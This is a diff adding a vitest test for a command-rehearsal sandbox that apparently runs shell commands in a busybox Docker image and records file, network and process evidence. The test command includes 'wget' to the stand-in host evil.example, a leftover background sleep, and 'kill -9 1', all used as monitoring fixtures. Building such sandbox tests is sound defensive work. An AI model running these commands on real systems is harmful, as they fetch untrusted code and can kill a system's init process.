@@ -1,0 +1,57 @@
+import { execFileSync } from 'node:child_process';
+import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { rehearsing } from './rehearsing.ts';
+
+const IMAGE = 'drylane-test/busybox';
+const place = realpathSync(mkdtempSync(join(tmpdir(), 'drylane-images-')));
+const site = join(place, 'site');
+const docker = (...args: readonly string[]): string =>
+  execFileSync('docker', args, { encoding: 'utf8' }).trim();
+
+beforeAll(() => {
+  mkdirSync(site);
+  writeFileSync(join(site, 'a.txt'), 'a\n');
+  const bin = join(place, 'root', 'bin');
+  mkdirSync(bin, { recursive: true });
+  const container = docker('create', 'drylane/toolkit', '/none');
+  try {
+    docker('cp', `${container}:/.drylane/busybox`, join(bin, 'busybox'));
+  } finally {
+    docker('rm', container);
+  }
+  chmodSync(join(bin, 'busybox'), 0o755);
+  for (const name of ['sh', 'cat', 'wget', 'sleep', 'kill']) symlinkSync('busybox', join(bin, name));
+  execFileSync('sh', ['-c', `tar -C '${join(place, 'root')}' -c . | docker import - ${IMAGE}`], {
+    stdio: 'ignore',
+  });
+});
+
+afterAll(() => {
+  docker('rmi', IMAGE);
+  rmSync(place, { recursive: true });
+});
+
+describe('an image that holds nothing but a static busybox', () => {
+  it('is watched as any other: the tools that watch come with drylane', async () => {
+    const command = 'cat a.txt > b.txt; wget -q http://evil.example/x; (sleep 300 &) ; kill -9 1; true';
+    const { evidence } = await rehearsing(command, {
+      ...{ site, state: join(place, 'state'), way: 'slot', shell: 'sh', image: IMAGE },
+    });
+    expect(evidence.stderr.text).toContain('bad address');
+    expect(evidence.steps.map(({ exit_code }) => exit_code)).toEqual([0, 1, 0, 0, 0]);
+    expect(evidence.changes.map(({ path, step }) => [path, step])).toEqual([['b.txt', 0]]);
+    expect(evidence.network).toMatchObject([
+      { protocol: 'dns', host: 'evil.example', program: 'wget', step: 1 },
+    ]);
+    expect(evidence.processes.find(({ argv }) => argv[0] === 'wget')).toMatchObject({
+      exit_code: 1,
+      step: 1,
+    });
+    expect(evidence.leftovers).toMatchObject([{ argv: ['sleep', '300'] }]);
+    expect(evidence.privileged).toMatchObject([{ syscall: 'kill', step: 3 }]);
+    expect(evidence.complete).toBe(false);
+  });
+});
